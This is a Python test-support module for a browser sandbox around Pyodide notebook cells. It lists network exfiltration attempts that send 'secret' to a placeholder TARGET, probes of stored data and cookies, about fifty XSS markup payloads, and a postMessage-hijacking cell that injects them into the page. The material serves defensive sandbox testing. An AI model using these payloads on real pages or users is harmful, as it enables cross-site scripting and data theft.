"""What code in a cell may try: ways to send something out, to get at what is stored, and markup that does something.

Used by the tests of the seal. Of each way the control says that it works where nothing is sealed.
"""

import json
import re

# Each way is tried by itself and says how it ended; TARGET is filled in.
SENDING = {
    "fetch": "await js.fetch(TARGET)",
    "the engine's own fetch": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, TARGET)",
    "fetch without an answer": (
        "options = to_js({'mode': 'no-cors', 'method': 'POST', 'body': 'secret'})\n"
        "await js.WorkerGlobalScope.prototype.fetch.call(js.self, TARGET, options)"
    ),
    "XMLHttpRequest": "request = js.XMLHttpRequest.new()\nrequest.open('GET', TARGET, False)\nrequest.send()",
    "XMLHttpRequest that waits": (
        "request = js.XMLHttpRequest.new()\nrequest.open('POST', TARGET, True)\n"
        "request.send('secret')\nawait ended(request, 'load')"
    ),
    "WebSocket": "await ended(js.WebSocket.new(TARGET.replace('http', 'ws')), 'open')",
    "EventSource": "await ended(js.EventSource.new(TARGET), 'open')",
    "importScripts": "js.importScripts(TARGET)",
    "import()": "js.importScripts(address('self.imported = import(\"' + TARGET + '\")'))\nawait js.imported",
    "JavaScript out of a text": "js.eval('fetch(\"' + TARGET + '\")')",
    "Worker": "await ended(js.Worker.new(TARGET), 'message')",
    "a worker that is a module": "await ended(js.Worker.new(TARGET, to_js({'type': 'module'})), 'message')",
    "a worker of data": (
        "await ended(js.Worker.new('data:text/javascript,fetch(\"' + TARGET + '\").finally(() => postMessage(1))'),"
        " 'message')"
    ),
    "a font": "await js.FontFace.new('leak', 'url(' + TARGET + ')').load()",
    "WebTransport": ("transport = js.WebTransport.new(TARGET.replace('http:', 'https:'))\nawait transport.ready"),
    "a worker's fetch": "await nested(\"fetch('\" + TARGET + \"', {mode: 'no-cors'})\")",
    "a worker's WebSocket": (
        "socket = \"new WebSocket('\" + TARGET.replace('http', 'ws') + \"')\"\n"
        "await nested('new Promise((onopen, onerror) => Object.assign(' + socket + ', {onopen, onerror}))')"
    ),
    "a worker's importScripts": 'await nested("Promise.resolve(importScripts(\'" + TARGET + "\'))")',
    "a worker's import()": 'await nested("import(\'" + TARGET + "\')")',
    "a worker's worker": (
        'inner = "new Worker(\'" + TARGET + "\')"\n'
        "await nested('new Promise((onmessage, onerror) => Object.assign(' + inner + ', {onmessage, onerror}))')"
    ),
    "pyfetch": "import pyodide.http\nawait pyodide.http.pyfetch(TARGET)",
    "open_url": "import pyodide.http\npyodide.http.open_url(TARGET)",
    "urllib": "import urllib.request\nurllib.request.urlopen(TARGET, timeout=2)",
    "socket": (
        "import socket, urllib.parse\nplace = urllib.parse.urlsplit(TARGET)\n"
        "socket.create_connection((place.hostname, place.port), 2).send(b'GET /secret HTTP/1.0\\r\\n\\r\\n')\n"
        "raise OSError('sent into nothing')"
    ),
    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage(TARGET + '.whl')\nassert False, 'it says nothing'",
}

STORING = {
    "localStorage": "print(js.localStorage.getItem('secret'))",
    "sessionStorage": "print(js.sessionStorage.length)",
    "indexedDB": "await ended(js.indexedDB.open('secret'), 'success')",
    "a worker's indexedDB": (
        "request = \"indexedDB.open('secret')\"\n"
        "await nested('new Promise((onsuccess, onerror) => Object.assign(' + request + ', {onsuccess, onerror}))')"
    ),
    # WebKit gives a sealed worker caches of its own, empty and gone with it.
    "caches": "if not await js.caches.match('https://site.test/secret'): raise OSError('not there')",
    "caches, to write": (
        "kept = await js.caches.open('secret')\nawait kept.put('https://site.test/told', js.Response.new('secret'))\n"
        "if not await kept.match('https://site.test/secret'): raise OSError('another store')"
    ),
    "a worker's caches": (
        "await nested(\"caches.match('https://site.test/secret').then((found) => found || Promise.reject())\")"
    ),
    "files": "print(await js.navigator.storage.getDirectory())",
    "files that Python keeps": (
        "import pyodide_js\nfiles = pyodide_js.FS\nfiles.mkdirTree('/kept')\n"
        "files.mount(files.filesystems.IDBFS, to_js({}), '/kept')\n"
        "told = asyncio.get_running_loop().create_future()\n"
        "files.syncfs(True, create_proxy(lambda error=None: told.set_result(error)))\n"
        "error = await asyncio.wait_for(told, 10)\n"
        "if error: raise OSError(str(error))"
    ),
    "cookies": "print(await js.cookieStore.getAll())",
    "cookies, to write": "await js.cookieStore.set('secret', 'told')",
    "locks": "await js.navigator.locks.query()",
    "the page": "print(js.document.title)",
    "the page above": "print(js.parent.document.title)",
    "the window": "print(js.window.location.href)",
}

# What the page has stored before they are tried, and whether all is as it was afterwards.
STORE = """async () => {
  localStorage.setItem("secret", "do not tell");
  await (await caches.open("secret")).put("https://site.test/secret", new Response("do not tell"));
}"""
IS_UNTOUCHED = """async () => {
  const cache = await caches.open("secret");
  const [told, secret] = await Promise.all(["told", "secret"].map((name) => cache.match(`https://site.test/${name}`)));
  return localStorage.getItem("secret") === "do not tell" && !told && (await secret.text()) === "do not tell";
}"""

# The same things in the page's own words, as a worker of the site that nothing seals does them.
STORING_CONTROL = {
    "indexedDB": "new Promise((yes, no) => Object.assign(indexedDB.open('control'), {onsuccess: yes, onerror: no}))",
    "caches": "caches.open('control').then((cache) => cache.put(location.origin + '/control', new Response('told')))",
    "files": "navigator.storage.getDirectory()",
    "locks": "navigator.locks.query()",
}

TOOLS = """
import asyncio, js
from pyodide.ffi import create_proxy, to_js as to_js_plain

def to_js(value):
    return to_js_plain(value, dict_converter=js.Object.fromEntries)

async def ended(thing, good):
    future = asyncio.get_running_loop().create_future()
    def yes(event): future.done() or future.set_result(good)
    def no(event):
        event.preventDefault()  # else Firefox takes the error for one of this worker, and Python for lost
        future.done() or future.set_exception(OSError(event.type))
    thing.addEventListener(good, create_proxy(yes))
    for bad in ("error", "close", "blocked"):
        thing.addEventListener(bad, create_proxy(no))
    return await asyncio.wait_for(future, 10)

def address(source):
    return js.URL.createObjectURL(js.Blob.new(to_js([source]), to_js({"type": "text/javascript"})))

async def nested(expression):
    source = "const say = (word) => () => postMessage(word);" \\
        "try { (" + expression + ").then(say('through'), say('refused')) } catch { say('refused')() }"
    worker = js.Worker.new(address(source))
    future = asyncio.get_running_loop().create_future()
    worker.addEventListener("message", create_proxy(lambda event: future.set_result(event.data)))
    def no(event):
        event.preventDefault()
        future.done() or future.set_result("refused")
    worker.addEventListener("error", create_proxy(no))
    end = await asyncio.wait_for(future, 10)
    if end == "refused":
        raise OSError("refused")
    return end
"""


def attempts(ways, target=""):
    """A cell that tries every way and prints for each how it ended."""
    lines = [TOOLS]
    for name, code in ways.items():
        body = "\n".join(
            f"    {line}" for line in code.replace("TARGET", repr(target + re.sub(r"\W", "-", name))).splitlines()
        )
        lines.append(f"async def attempt():\n{body}")
        lines.append(f"try:\n    await attempt()\n    print({name!r}, ': through')")
        lines.append(f"except BaseException as error:\n    print({name!r}, ': refused', type(error).__name__)")
    return "\n".join(lines)


def ends(words):
    """How each way ended, of what `attempts` has printed: {name: "through" or "refused"}."""
    return dict(re.findall(r"^(.*) : (\w+)", words, re.MULTILINE))


# Markup that asks TARGET for something as soon as it is in a document, without anyone touching it.
MARKUP = {
    "script": "<script>fetch('TARGET', {mode: 'no-cors'})</script>",
    "script-src": '<script src="TARGET"></script>',
    "script-module": "<script type=module>import 'TARGET'</script>",
    "img": "<img src=TARGET>",
    "img-onerror": "<img src=data:, onerror=\"new Image().src='TARGET'\">",
    "img-srcset": '<img srcset="TARGET 1x">',
    "image": "<image src=TARGET>",
    "picture": "<picture><source srcset=TARGET><img></picture>",
    "svg-onload": "<svg onload=\"new Image().src='TARGET'\">",
    "svg-slash": "<svg/onload=new/**/Image().src='TARGET'>",
    "svg-image": "<svg><image href=TARGET width=9 height=9 /></svg>",
    "svg-image-xlink": '<svg><image xlink:href="TARGET" width="9" height="9"/></svg>',
    "svg-script": "<svg><script>new Image().src='TARGET'</script></svg>",
    "svg-script-href": '<svg><script href="TARGET"/></svg>',
    "svg-foreign": "<svg width=9 height=9><foreignObject width=9 height=9><img src=TARGET></foreignObject></svg>",
    "svg-style": "<svg><style>@import 'TARGET';</style></svg>",
    "svg-animate": "<svg width=9 height=9><image width=9 height=9><set attributeName=href to=TARGET></image></svg>",
    "svg-onbegin": "<svg><animate onbegin=\"new Image().src='TARGET'\" attributeName=x dur=1s></svg>",
    "math": "<math><mtext><img src=TARGET></mtext></math>",
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src=TARGET></annotation-xml></math>',
    "iframe": "<iframe src=TARGET></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<img src=TARGET>"></iframe>',
    "iframe-javascript": "<iframe src=\"javascript:void(new Image().src='TARGET')\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src='TARGET'>\"></iframe>",
    "object": "<object data=TARGET></object>",
    "object-data": "<object type=text/html data=\"data:text/html,<img src='TARGET'>\"></object>",
    "embed": "<embed src=TARGET>",
    "stylesheet": "<link rel=stylesheet href=TARGET>",
    "preload": "<link rel=preload as=image href=TARGET>",
    "style-import": "<style>@import 'TARGET';</style>",
    "style-background": "<style>html { background: url(TARGET) }</style>",
    "style-font": "<style>@font-face { font-family: leak; src: url(TARGET) } b { font: 9px leak }</style><b>b</b>",
    "style-attribute": '<p style="background: url(TARGET)">p</p>',
    "style-list": '<ul><li style="list-style-image: url(TARGET)">i</ul>',
    "table-background": "<table background=TARGET><tr><td>t</table>",
    "body-onload": "<body onload=\"new Image().src='TARGET'\">",
    "details": "<details open ontoggle=\"new Image().src='TARGET'\">d</details>",
    "autofocus": "<input autofocus onfocus=\"new Image().src='TARGET'\">",
    "input-onerror": "<input type=image src=data:, onerror=\"new Image().src='TARGET'\">",
    "input-image": "<input type=image src=TARGET>",
    "video": "<video src=TARGET preload=auto></video>",
    "video-poster": "<video poster=TARGET></video>",
    "audio-source": "<audio preload=auto><source src=TARGET></audio>",
    "source-onerror": "<video><source onerror=\"new Image().src='TARGET'\" src=data:,></video>",
    "refresh": '<meta http-equiv=refresh content="0; url=TARGET">',
    "base": '<base href="TARGET/"><img src=relative>',
    "form": '<form action=TARGET></form><img src=data:, onerror="document.forms[0].submit()">',
    "out-of-text": "</pre></div></script></style></textarea></title><img src=TARGET>",
    "out-of-comment": "--><!--><img src=TARGET>",
    "noscript": '<noscript><p title="</noscript><img src=TARGET>">',
    "template": "<div><template shadowrootmode=open><img src=TARGET></template></div>",
    "plaintext-before": "<xmp></xmp><listing><img src=TARGET></listing><plaintext>",
}
# Engines differ in a few of them, and take up others later or not where many come at once.
LEAST_HEARD = 35


def markup(target):
    """The markup, each asking for an address of its own: {name: markup}."""
    return {name: html.replace("TARGET", f"{target}{name}") for name, html in MARKUP.items()}


# Puts each markup into a document of its own, in a page without a policy, in place of those before.
MARKUP_CONTROL = """(documents) => {
  for (const frame of [...document.querySelectorAll("iframe")]) frame.remove();
  for (const html of documents) {
    const frame = document.createElement("iframe");
    frame.srcdoc = html;
    document.body.append(frame);
  }
}"""


def heard(requests):
    """The names of the markup that has asked a listener for something."""
    paths = [request.split("?")[0].removesuffix("/relative") for request in requests]
    return {path.removeprefix("/") for path in paths} & set(MARKUP)


# What has become of text that is shown anywhere in the page, and should have stayed text: elements and attributes.
STRANGE = """() => {
  const areas = "[data-output], [data-picture], [data-code], [data-words], [data-status], [data-note], " +
    "[data-reason], .variables, .panel, .driving, .page-notice, dialog";
  const elements = "script, object, embed, link, base, form:not(.question), foreignObject, use, image, video, audio, " +
    "iframe, style, template, marquee, math, meta, noscript, xmp, plaintext, listing, source, set, animate, " +
    "img:not(.cm-widgetBuffer, [src^='data:image/png;base64,'])";
  const isStrange = ({name, value}) => {
    if (/^(alt|title|aria-.*|data-.*)$/.test(name)) return false;
    const isAddress = /^(src|srcset|srcdoc|action|formaction|background|data)$/.test(name);
    if (isAddress) return !value.startsWith("data:image/png;base64,");
    return /^on/.test(name) || (/href$/.test(name) && !value.startsWith("#")) || /url\\s*\\(/i.test(value);
  };
  return [...document.querySelectorAll(areas)].flatMap((area) => {
    const found = [...area.querySelectorAll(elements)].map(({localName}) => `<${localName}>`);
    const attributes = [...area.querySelectorAll("*")].flatMap((node) => [...node.attributes]).filter(isStrange);
    return [...found, ...attributes.map(({name, value}) => `${name}=${value.slice(0, 80)}`)];
  });
}"""

# What the page's policy had to refuse: text that is text does not even try.
REFUSALS = """
window.refused = [];
addEventListener("securitypolicyviolation", (event) => {
  refused.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""


def listed(target):
    """A line of Python that makes MARKUP of all of it, a list of texts."""
    return f"import json\nMARKUP = json.loads({json.dumps(list(markup(target).values()))!r})\n"


# A cell that puts markup into the live pictures on their way to the page; MARKUP is listed before it.
FORGE = """
import js
from pyodide.ffi import create_proxy

own = js.MessagePort.prototype.postMessage

def forge(port, message):
    if "svg" in getattr(message, "payload", ""):
        drawn = json.loads(message.payload)
        one = MARKUP[drawn["values"]["angle"] % len(MARKUP)]
        message.payload = json.dumps(drawn | {"svg": f'<svg class="dial">{one}</svg>{one}<i>{one}', "words": one})
    own.call(port, message)

js.MessagePort.prototype.postMessage = create_proxy(forge, capture_this=True)
"""
